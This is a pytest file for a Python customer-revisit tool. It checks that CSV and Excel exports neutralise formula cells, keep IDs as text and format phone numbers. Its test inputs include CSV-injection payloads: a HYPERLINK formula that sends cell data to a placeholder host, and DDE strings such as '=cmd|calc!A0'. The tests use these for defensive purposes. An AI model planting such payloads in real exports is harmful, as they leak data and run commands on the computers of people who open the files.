"""Files revisit writes for Excel (issue 11, items 8 and 9): no cell runs as a formula,
identifiers stay text, phones read as phones — in call lists, the problems file and CSV
output of commands."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import openpyxl
import pytest
from sqlmodel import Session
from typer.testing import CliRunner

from revisit.cli import app
from revisit.db.engine import create_db_engine
from revisit.delivery.calls import COLUMNS, CallRow, write_call_lists
from revisit.dms.phones import format_for_reading
from revisit.sheets import FORMULA_STARTS, SafeCsvWriter, as_text, neutralise, write_table
from tests.factories import make_customer, make_vehicle

INJECTION = '=HYPERLINK("http://example.invalid/?x="&B2,"点此查看")'


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_neutralised(start: str) -> None:
    assert neutralise(f"{start}1+2") == f"'{start}1+2"


@pytest.mark.parametrize("value", ["张伟", "1+2", "a=b", "'quoted", "", 12, -5, 3.5])
def test_other_cells_are_left_alone(value: object) -> None:
    assert neutralise(value) == value


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("00012345", "00012345\t"),  # leading zeros Excel would drop
        ("123456789012345678", "123456789012345678\t"),  # 1.23457E+17
        ("1.5e3", "1.5e3\t"),
        ("LFV3A23C0K3051234", "LFV3A23C0K3051234"),  # a VIN already reads as text
        ("-42", "'-42"),  # neutralised first: text already
        (None, ""),
    ],
)
def test_identifiers_stay_text(value: object, cell: str) -> None:
    assert as_text(value) == cell


@pytest.mark.parametrize(
    ("e164", "shown"),
    [
        ("+8613800000001", "138 0000 0001"),
        ("+8659522881234", "0595 2288 1234"),
        ("+861012345678", "010 1234 5678"),
        ("+14155550100", "00 1 415-555-0100"),  # dialled from China
        ("+85291234567", "00 852 9123 4567"),
        (None, ""),
        ("not a phone", "not a phone"),
    ],
)
def test_phones_for_reading(e164: str | None, shown: str) -> None:
    assert format_for_reading(e164) == shown
    if shown:
        assert not shown.startswith(FORMULA_STARTS) and " " in shown


def _call_row(**kw: object) -> CallRow:
    values: dict[str, object] = {
        "customer_id": "00012345", "name": INJECTION, "phone": "+8613800000001",
        "vehicles": "@SUM(1+1)*cmd|' /C calc'!A0", "reason": "-2+3", "caller": "李娜",
        "contact_id": 7,
    }  # fmt: skip
    values.update(kw)
    return CallRow(**values)  # type: ignore[arg-type]


def test_call_list_csv_cells_are_safe_and_phones_are_text(tmp_path: Path) -> None:
    rows = [_call_row(), _call_row(customer_id="C2", name="\t=1+2", phone="+14155550100")]
    csv_path, _ = write_call_lists(
        rows=rows, out_dir=tmp_path, campaign="lapsed_6_12", as_of=dt.date(2026, 11, 23)
    )
    table = list(csv.DictReader(io.StringIO(csv_path.read_text(encoding="utf-8-sig"))))
    assert table[0]["客户姓名"] == "'" + INJECTION
    assert table[0]["车辆"].startswith("'@") and table[0][COLUMNS["reason"][0]] == "'-2+3"
    assert table[0]["手机号"] == "138 0000 0001"
    assert table[0]["客户编号"] == "00012345\t" and table[0]["联系编号"] == "7\t"
    assert table[1]["客户姓名"] == "'\t=1+2" and table[1]["手机号"] == "00 1 415-555-0100"
    for row in table:
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row.values())


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_write_table_neutralises_both_formats(tmp_path: Path, suffix: str) -> None:
    path = write_table(
        tmp_path / f"t{suffix}",
        ["id", "name", "amount"],
        [["007", INJECTION, 12.5], ["2", "+86 138", -3]],
        text_columns=["id"],
    )
    if suffix == ".csv":
        cells = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
        assert cells[1] == ["007\t", "'" + INJECTION, "12.5"]
        assert cells[2] == ["2\t", "'+86 138", "-3"]  # a number is a number
        return
    sheet = openpyxl.load_workbook(path).worksheets[0]
    got = [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows(min_row=2)]
    assert got == [
        [("007", "s"), ("'" + INJECTION, "s"), (12.5, "n")],
        [("2", "s"), ("'+86 138", "s"), (-3, "n")],
    ]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".txt"])
def test_problems_file_is_safe(
    db_url: str, tmp_path: Path, suffix: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    folder = Path("=cmd|calc!A0")  # a relative path: the file cell starts with "="
    folder.mkdir()
    (folder / "customers.csv").write_text("customer_id,name,phone\nC1,张伟,139\n")
    out = tmp_path / f"problems{suffix}"
    result = CliRunner().invoke(
        app, ["import", str(folder), "--problems", str(out)], env={"REVISIT_DATABASE_URL": db_url}
    )
    assert result.exit_code == 0, result.output
    if suffix == ".txt":
        assert "customers.csv:2: phone: not a valid phone number" in out.read_text()
        return
    if suffix == ".csv":
        cells = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    else:
        sheet = openpyxl.load_workbook(out).worksheets[0]
        cells = [[str(c.value) for c in row] for row in sheet.iter_rows()]
    assert cells[0] == ["file", "line", "field", "reason", "rejected"]
    assert [row[2] for row in cells[1:]] == ["phone"] and cells[1][0].startswith("'=cmd")
    for row in cells:
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row)


def test_cohort_csv_is_safe(db_url: str) -> None:
    engine = create_db_engine(db_url)
    with Session(engine) as s:
        customer = make_customer(s, customer_id="=1+2")
        make_vehicle(
            s, customer=customer, vin="00012345678901234", purchase_date=dt.date(2024, 1, 31)
        )
        s.commit()
    engine.dispose()
    out = CliRunner().invoke(
        app,
        ["cohort", "first_service_due", "--as-of", "2024-04-20", "--format", "csv"],
        env={"REVISIT_DATABASE_URL": db_url},
    )
    assert out.exit_code == 0, out.output
    table = list(csv.DictReader(io.StringIO(out.stdout)))
    assert table[0]["customer_id"] == "'=1+2"
    assert table[0]["vin"] == "00012345678901234\t"


def test_safe_writer_writes_none_as_empty() -> None:
    buf = io.StringIO()
    SafeCsvWriter(buf, lineterminator="\n").writerow([None, "a", 1])
    assert buf.getvalue() == ",a,1\n"


def test_report_csv_is_safe_and_keeps_numbers(tmp_path: Path) -> None:
    from rich.table import Table

    from revisit.cli.report import emit

    out = tmp_path / "report.csv"
    rows = [{"campaign": "=cmd|calc!A0", "store": "@S1", "lift_pp": -2.5, "sent": 12}]
    emit(rows, ["campaign", "store", "lift_pp", "sent"], fmt="csv", output=out, table=Table)
    cells = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert cells[1] == ["'=cmd|calc!A0", "'@S1", "-2.5", "12"]
